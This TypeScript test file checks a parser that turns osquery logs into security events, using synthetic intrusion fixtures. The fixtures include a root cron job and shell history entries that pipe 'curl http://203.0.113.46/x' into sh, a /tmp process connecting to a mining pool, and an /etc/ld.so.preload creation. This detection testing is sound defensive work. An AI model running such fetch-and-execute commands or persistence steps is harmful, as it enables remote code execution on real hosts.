import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Event } from '../../event/event.ts'
import type { LogRecord } from '../../event/log-record.ts'
import { readTexts } from '../samples/read-texts.ts'
import { osquery } from './index.ts'

type Json = Record<string, unknown>

const LOGGED = Date.UTC(2026, 4, 12, 3, 14, 7) / 1000

function answer(columns: Json, more: Json = {}): Json {
  return {
    name: 'pack_host_anything',
    hostIdentifier: 'web-1',
    calendarTime: 'Tue May 12 03:14:07 2026 UTC',
    unixTime: LOGGED,
    epoch: 0,
    counter: 7,
    numerics: false,
    columns,
    action: 'added',
    ...more,
  }
}

async function read(...records: readonly Json[]): Promise<Event[]> {
  const text = records.map((record) => `${JSON.stringify(record)}\n`).join('')
  const { events, reports } = await readTexts(osquery, [{ name: 'osqueryd.results.log', text }])
  expect(reports[0]?.problems).toEqual([])
  return events.map((event) => Event.parse(event))
}

const PROCESS = {
  pid: '4211',
  path: '/tmp/kd',
  cmdline: '/tmp/kd -o pool.example.net:3333 -u x',
  cwd: '/tmp',
}
const SOCKET = {
  pid: '4211',
  path: '/tmp/kd',
  family: '2',
  protocol: '6',
  local_address: '10.0.0.4',
  local_port: '40112',
  remote_address: '203.0.113.9',
  remote_port: '3333',
}
const CRON = {
  event: '',
  minute: '*/5',
  hour: '*',
  day_of_month: '*',
  month: '*',
  day_of_week: '*',
  path: '/etc/crontab',
  command: 'root curl -s http://203.0.113.46/x | sh',
}

describe('a row of a table', () => {
  const cases: [string, Json, Json[]][] = [
    [
      'process_events',
      {
        ...PROCESS,
        auid: '1000',
        uid: '0',
        euid: '0',
        parent: '4200',
        time: String(LOGGED - 9),
        uptime: '99',
        syscall: 'execve',
      },
      [
        {
          kind: 'process',
          action: 'exec',
          time: (LOGGED - 9) * 1000,
          commandLine: PROCESS.cmdline,
          args: ['/tmp/kd', '-o', 'pool.example.net:3333', '-u', 'x'],
          actor: { pid: 4211, ppid: 4200, exe: '/tmp/kd', name: 'kd', uid: 0, loginUid: 1000 },
          paths: ['/tmp/kd'],
          isSuccess: true,
        },
      ],
    ],
    [
      'bpf_process_events',
      {
        ...PROCESS,
        tid: '1',
        syscall: 'execveat',
        exit_code: '-2',
        ntime: '1',
        json_cmdline: '["/tmp/kd","a b"]',
      },
      [{ kind: 'process', action: 'exec', args: ['/tmp/kd', 'a b'], isSuccess: false, time: LOGGED * 1000 }],
    ],
    [
      'process_events of a script',
      {
        ...PROCESS,
        path: '/usr/bin/dash',
        cmdline: 'sh -c curl -s x | bash',
        syscall: 'execve',
        time: String(LOGGED),
      },
      [{ args: ['sh', '-c', 'curl -s x | bash'], commandLine: 'sh -c curl -s x | bash' }],
    ],
    ['a process that only copies itself', { ...PROCESS, syscall: 'clone', time: String(LOGGED) }, []],
    [
      'processes',
      { ...PROCESS, name: 'kd', state: 'S', parent: '1', uid: '1000', start_time: '1' },
      [{ kind: 'process', action: 'running', actor: { name: 'kd', uid: 1000 } }],
    ],
    [
      'shell_history',
      {
        uid: '1000',
        time: String(LOGGED - 60),
        command: 'curl x | sh',
        history_file: '/home/alice/.zsh_history',
      },
      [
        {
          kind: 'process',
          time: (LOGGED - 60) * 1000,
          timeQuality: 'exact',
          args: ['zsh', '-c', 'curl x | sh'],
        },
      ],
    ],
    [
      'shell_history without times',
      { uid: '0', time: '0', command: 'ls', history_file: '/root/.bash_history' },
      [{ kind: 'process', time: LOGGED * 1000, timeQuality: 'unknown', actor: { uid: 0 } }],
    ],
    [
      'shell_history of last year',
      { uid: '0', time: '1740000000', command: 'ls', history_file: '/root/.bash_history' },
      [{ time: LOGGED * 1000, timeQuality: 'unknown' }],
    ],
    [
      'socket_events',
      { ...SOCKET, action: 'connect', status: 'in_progress', time: String(LOGGED - 1), uptime: '3' },
      [{ kind: 'socket', action: 'connect', ip: '203.0.113.9', port: 3333, isSuccess: true }],
    ],
    [
      'bpf_socket_events',
      { ...SOCKET, syscall: 'bind', exit_code: '-98', ntime: '3' },
      [{ kind: 'socket', action: 'bind', ip: '10.0.0.4', port: 40112, isSuccess: false }],
    ],
    [
      'process_open_sockets',
      { ...SOCKET, state: 'ESTABLISHED' },
      [{ kind: 'socket', action: 'connect', port: 3333, actor: { pid: 4211 } }],
    ],
    [
      'process_open_sockets of a service',
      { ...SOCKET, local_port: '22', remote_port: '50111', state: 'ESTABLISHED' },
      [{ kind: 'socket', action: 'accept', ip: '203.0.113.9' }],
    ],
    ['a socket that waits', { ...SOCKET, remote_address: '0.0.0.0', remote_port: '0', state: 'LISTEN' }, []],
    [
      'listening_ports',
      { pid: '88', port: '6379', protocol: '6', family: '2', address: '0.0.0.0', path: '' },
      [
        {
          kind: 'resource',
          provider: 'host',
          resourceType: 'listening-socket',
          attributes: { protocol: 'tcp', address: '0.0.0.0', port: 6379, pid: 88 },
        },
      ],
    ],
    ['a socket in the file system', { pid: '88', port: '0', protocol: '0', address: '', path: '/run/x' }, []],
    [
      'crontab of the system',
      CRON,
      [
        {
          kind: 'resource',
          resourceType: 'cron-job',
          name: 'root',
          attributes: {
            schedule: '*/5 * * * *',
            command: 'curl -s http://203.0.113.46/x | sh',
            user: 'root',
          },
        },
      ],
    ],
    [
      'crontab of a user',
      { ...CRON, event: '@reboot', path: '/var/spool/cron/crontabs/alice', command: '/tmp/.u/run' },
      [{ attributes: { schedule: '@reboot', command: '/tmp/.u/run', user: 'alice' } }],
    ],
    [
      'authorized_keys',
      {
        uid: '0',
        algorithm: 'ssh-rsa',
        key: 'AAAAB3NzaC1yc2EAAAADAQABZZZZ',
        options: '',
        comment: 'somebody',
        key_file: '/root/.ssh/authorized_keys',
      },
      [
        {
          resourceType: 'authorized-key',
          attributes: { user: 'root', keyType: 'ssh-rsa', comment: 'somebody' },
        },
      ],
    ],
    [
      'users',
      { uid: '0', gid: '0', username: 'sysadm', description: '', directory: '/root', shell: '/bin/bash' },
      [
        { kind: 'account', action: 'add-user', user: 'sysadm' },
        { kind: 'resource', resourceType: 'user', attributes: { name: 'sysadm', uid: 0, mayLogIn: true } },
      ],
    ],
    [
      'last',
      {
        username: 'root',
        tty: 'pts/0',
        pid: '70',
        type: '7',
        time: String(LOGGED - 30),
        host: '198.51.100.7',
      },
      [{ kind: 'session', action: 'open', user: 'root', srcIp: '198.51.100.7', time: (LOGGED - 30) * 1000 }],
    ],
    [
      'logged_in_users',
      { type: 'user', user: 'alice', tty: 'pts/0', host: 'office', time: String(LOGGED), pid: '71' },
      [{ kind: 'session', user: 'alice', srcIp: null }],
    ],
    [
      'file_events',
      {
        target_path: '/etc/ld.so.preload',
        category: 'etc',
        action: 'CREATED',
        mode: '0644',
        time: String(LOGGED - 2),
      },
      [{ kind: 'file', action: 'create', path: '/etc/ld.so.preload', mode: '0644', key: 'etc' }],
    ],
    ['a table of something else', { name: 'bash', version: '5.2' }, []],
  ]
  it.each(cases)('%s', async (_table, columns, expected) => {
    expect(await read(answer(columns))).toMatchObject(expected)
  })

  it.each([
    ['of a process', PROCESS],
    ['of a job', CRON],
    ['of a listening socket', { pid: '88', port: '6379', protocol: '6', address: '0.0.0.0' }],
  ])('%s that went says nothing', async (_what, columns) => {
    expect(await read(answer(columns, { action: 'removed' }))).toEqual([])
  })

  it('of the first answer is not new', async () => {
    const columns = { uid: '0', username: 'root', directory: '/root', shell: '/bin/bash' }
    expect(await read(answer(columns, { counter: 0 }))).toMatchObject([{ kind: 'resource' }])
    expect(await read(answer(columns, { counter: undefined }))).toMatchObject([{ kind: 'resource' }])
  })

  it('that changed in an answer is not new', async () => {
    const before = { uid: '7', username: 'lp', directory: '/var/spool/lpd', shell: '/usr/sbin/nologin' }
    const { columns: _none, action: _gone, ...head } = answer({})
    const diffResults = { removed: [before], added: [{ ...before, shell: '/bin/bash' }] }
    expect(await read({ ...head, diffResults })).toMatchObject([
      { kind: 'resource', attributes: { mayLogIn: true } },
    ])
  })
})

describe('the log', () => {
  const { columns: _none, action: _gone, ...head } = answer({})
  const SNAPSHOT = { ...head, action: 'snapshot', snapshot: [CRON, { ...CRON, command: 'root true' }] }
  const BATCH = { ...head, diffResults: { added: [CRON], removed: [{ ...CRON, command: 'root true' }] } }

  it.each([
    ['lines', JSON.stringify(answer(CRON))],
    ['a snapshot', JSON.stringify(SNAPSHOT)],
    ['answers taken together', JSON.stringify(BATCH)],
    ['times as texts', JSON.stringify(answer(CRON, { unixTime: String(LOGGED) }))],
    [
      'an old version',
      JSON.stringify({ ...answer(CRON), unixTime: undefined, hostIdentifier: undefined, hostname: 'web-1' }),
    ],
  ])('of %s is known', async (_form, text) => {
    expect(osquery.recognise(Buffer.from(`${text}\n`))).toBe(1)
    expect(osquery.firstTime(Buffer.from(`${text}\n`))).toBe(LOGGED * 1000)
    const [event] = await read(JSON.parse(text) as Json)
    expect(event).toMatchObject({ kind: 'resource', observer: 'host:web-1', subjects: ['host:web-1'] })
  })

  it.each([
    '{"hostIdentifier":"web-1","severity":"0","filename":"init.cpp","message":"osquery initialized","unixTime":1778555647}',
    '{"name":"x","columns":{"pid":"1"}}',
    '{"name":"x","hostname":"web-1","unixTime":1778555647,"columns":["a","b"]}',
  ])('is not seen in %s', (text) => {
    expect(osquery.recognise(Buffer.from(text))).toBe(0)
  })

  it('names the machine as the operator decorated it', async () => {
    const [event] = await read(answer(CRON, { hostIdentifier: 'A-UUID', decorations: { hostname: 'web-2' } }))
    expect(event?.observer).toBe('host:web-2')
  })

  it('shows rules the answer as it stands there', async () => {
    const asked: LogRecord[] = []
    const text = `${JSON.stringify(answer(CRON))}\n`
    await readTexts(osquery, [{ name: 'a', text }], {
      matchesOf: (record) => {
        asked.push(record)
        return []
      },
    })
    expect(asked).toMatchObject([
      {
        logSource: { product: 'osquery', service: 'results' },
        fields: { name: 'pack_host_anything', columns: CRON },
      },
    ])
  })

  it('never breaks the source, whatever it holds', async () => {
    const columns = [...Object.keys(PROCESS), ...Object.keys(SOCKET), ...Object.keys(CRON)]
    const more = [
      'eid',
      'time',
      'syscall',
      'json_cmdline',
      'key',
      'key_file',
      'history_file',
      'username',
      'shell',
    ]
    const keys = fc.constantFrom(
      ...columns,
      ...more,
      'directory',
      'target_path',
      'action',
      'type',
      'tty',
      'host',
      'port',
    )
    const row = fc.dictionary(
      keys,
      fc.oneof(fc.string(), fc.jsonValue({ maxDepth: 1 }), fc.nat().map(String)),
    )
    await fc.assert(
      fc.asyncProperty(row, fc.array(fc.oneof(row, fc.jsonValue({ maxDepth: 1 }))), async (one, several) => {
        const records = [
          answer(one),
          { ...head, action: 'snapshot', snapshot: several },
          { ...head, diffResults: { added: several, removed: several } },
        ]
        const text = records.map((record) => `${JSON.stringify(record)}\n`).join('')
        const { events } = await readTexts(osquery, [{ name: 'a', text }])
        for (const event of events) Event.parse(event)
      }),
      { seed: 4, numRuns: 200 },
    )
  })
})
